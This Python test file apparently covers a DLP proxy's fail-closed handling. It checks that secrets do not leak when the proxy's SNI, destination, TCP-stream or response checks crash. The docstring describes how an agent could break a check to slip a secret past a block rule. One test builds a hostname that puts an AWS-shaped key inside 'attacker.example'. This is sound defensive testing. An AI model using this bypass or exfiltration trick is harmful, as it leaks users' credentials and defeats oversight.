"""Attack: make failcore's check of a connection fail, so that what it was checking goes out unchecked.

With `fail_open: false` a failure inside failcore must stop what it was deciding. For a request that
was always so (a 502 from failcore). The checks of a TLS ClientHello's SNI and of a server connection
have no request to answer: a failure there was recorded and the SNI or the connection went out
unchecked, so an agent that can make the check fail (a pathological name, a rule that trips on it)
sent a secret in the SNI past a BLOCK rule. Each test breaks one check (the scan raises) and asserts
what reached the logging upstream and what the tape holds."""

from __future__ import annotations

import socket
from pathlib import Path

import httpx
import pytest

import failcore.proxy.hostdlp as hostdlp
from tests.helpers import network_events, proxied_client, read_tape
from tests.security.helpers import DLP_BLOCK, get_through_tunnel, read_head
from tests.security.upstream import LoggingUpstream

KEY = "AKIAIOSFODNN7EXAMPLQ"  # gitleaks' aws-access-key-id shape, not a real key
FAIL_CLOSED = DLP_BLOCK + "fail_open: false\n"


def break_check(monkeypatch: pytest.MonkeyPatch, where: str) -> None:
    """The host-name scan raises for the names checked at `where` only."""
    real = hostdlp.names_hits

    def names_hits(scanner, names, at, clean=None):  # type: ignore[no-untyped-def]
        if at == where:
            raise RuntimeError(f"the {where} check broke")
        return real(scanner, names, at, clean)

    monkeypatch.setattr(hostdlp, "names_hits", names_hits)


def internal_errors(tape: Path) -> list[dict]:
    return [e for e in read_tape(tape) if e["kind"] == "internal_error"]


def test_a_failed_sni_check_never_offers_the_sni_upstream_under_fail_closed(
    start_proxy, policy_file, logging_upstream: LoggingUpstream, tmp_path: Path, monkeypatch
) -> None:
    break_check(monkeypatch, "TLS SNI")
    proxy = start_proxy(policy_file(FAIL_CLOSED), upstream_ca=logging_upstream.ca_path)
    sni = f"{KEY.lower()}.attacker.example"
    answer = get_through_tunnel(proxy, logging_upstream, sni, check_hostname=False)
    proxy.flush()
    assert answer.startswith(b"HTTP/1.1 403"), answer
    assert not any(KEY in sni.upper() for sni in logging_upstream.snis()), logging_upstream.snis()
    assert b"/sni" not in logging_upstream.received_bytes()
    tape = tmp_path / "tape"
    [error] = internal_errors(tape)
    assert error["detail"]["where"] == "hostdlp.tls_clienthello" and error["detail"]["fail_open"] is False
    (event,) = network_events(read_tape(tape))
    assert (event["decision"], event["rule"]) == ("BLOCK", "internal_error")
    assert "fail_open: false" in event["reason"]


def test_a_failed_sni_check_still_fails_open_by_default(
    start_proxy, policy_file, logging_upstream: LoggingUpstream, tmp_path: Path, monkeypatch
) -> None:
    """The control: fail-open (the default) lets the connection through and records the failure."""
    break_check(monkeypatch, "TLS SNI")
    proxy = start_proxy(policy_file(DLP_BLOCK), upstream_ca=logging_upstream.ca_path)
    answer = get_through_tunnel(proxy, logging_upstream, "localhost", check_hostname=False)
    proxy.flush()
    assert answer.startswith(b"HTTP/1.1 200"), answer
    assert logging_upstream.snis() == ["localhost"]
    assert b"/sni" in logging_upstream.received_bytes()
    [error] = internal_errors(tmp_path / "tape")
    assert error["detail"]["where"] == "hostdlp.tls_clienthello" and error["detail"]["fail_open"] is True


def test_a_failed_destination_check_opens_no_connection_under_fail_closed(
    start_proxy, policy_file, plain_logging_upstream: LoggingUpstream, tmp_path: Path, monkeypatch
) -> None:
    break_check(monkeypatch, "destination")
    proxy = start_proxy(policy_file(FAIL_CLOSED))
    with proxied_client(proxy) as client:
        response = client.get(f"{plain_logging_upstream.url}/connect")
    proxy.flush()
    assert response.status_code == 502
    assert "fail_open: false" in response.text
    assert plain_logging_upstream.received_bytes() == b"", "the connection was never opened"
    [error] = internal_errors(tmp_path / "tape")
    assert error["detail"]["where"] == "hostdlp.server_connect" and error["detail"]["fail_open"] is False


def test_a_failed_tcp_stream_check_relays_nothing_under_fail_closed(
    start_proxy, policy_file, plain_logging_upstream: LoggingUpstream, tmp_path: Path, monkeypatch
) -> None:
    """The stream's own check (tcp_start) fails: the message mitmproxy already holds must not be
    relayed either (tcp_message found no stream state and let it through)."""
    import failcore.proxy.tcpstream as tcpstream

    def broken(flow):  # type: ignore[no-untyped-def]
        raise RuntimeError("the TCP check broke")

    monkeypatch.setattr(tcpstream, "stream_target", broken)
    proxy = start_proxy(policy_file("version: 1\nmode: enforce\ndefault: ALLOW\nfail_open: false\n"))
    authority = f"127.0.0.1:{plain_logging_upstream.port}"
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=30) as sock:
        sock.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
        assert read_head(sock).startswith(b"HTTP/1.1 200")
        sock.sendall(b"\x00\x01\x02raw-hello\xff")
        sock.settimeout(5)
        echoed = b""
        try:
            while chunk := sock.recv(65536):
                echoed += chunk
        except (ConnectionResetError, TimeoutError):
            pass
    proxy.flush()
    assert echoed == b""
    assert plain_logging_upstream.received_bytes() == b"", "nothing of the stream was relayed"
    [error] = internal_errors(tmp_path / "tape")
    assert error["detail"]["where"] == "tcp.tcp_start" and error["detail"]["fail_open"] is False


@pytest.mark.parametrize("size", [200, 3 << 20])
def test_a_failed_response_check_lets_nothing_of_the_body_through_under_fail_closed(
    start_proxy, policy_file, plain_logging_upstream: LoggingUpstream, tmp_path: Path, monkeypatch, size: int
) -> None:
    """The response's check (responseheaders) fails before its body is read: a 502 put in its place
    was sent with the upstream's body (mitmproxy reads the body into the response it then holds), a
    secret in it included. The flow is killed instead: the client gets nothing of the body."""
    import failcore.proxy.dlpguard as dlpguard

    def broken(*args):  # type: ignore[no-untyped-def]
        raise RuntimeError("the response check broke")

    monkeypatch.setattr(dlpguard, "response_streams", broken)
    body = b'{"leak": "' + KEY.encode() + b'", "pad": "' + b"x" * size + b'"}'
    plain_logging_upstream.respond_with = (200, [(b"content-type", b"application/json")], body)
    proxy = start_proxy(policy_file(FAIL_CLOSED))
    received = b""
    with proxied_client(proxy) as client:
        try:
            with client.stream("GET", f"{plain_logging_upstream.url}/answer") as response:
                for chunk in response.iter_raw():
                    received += chunk
        except httpx.HTTPError:
            pass
    proxy.flush()
    assert KEY.encode() not in received and b"x" * 100 not in received
    [error] = internal_errors(tmp_path / "tape")
    assert error["detail"]["where"] == "dlp.responseheaders" and error["detail"]["fail_open"] is False
    assert KEY.encode() not in b"".join(p.read_bytes() for p in (tmp_path / "tape").glob("seg-*.jsonl"))
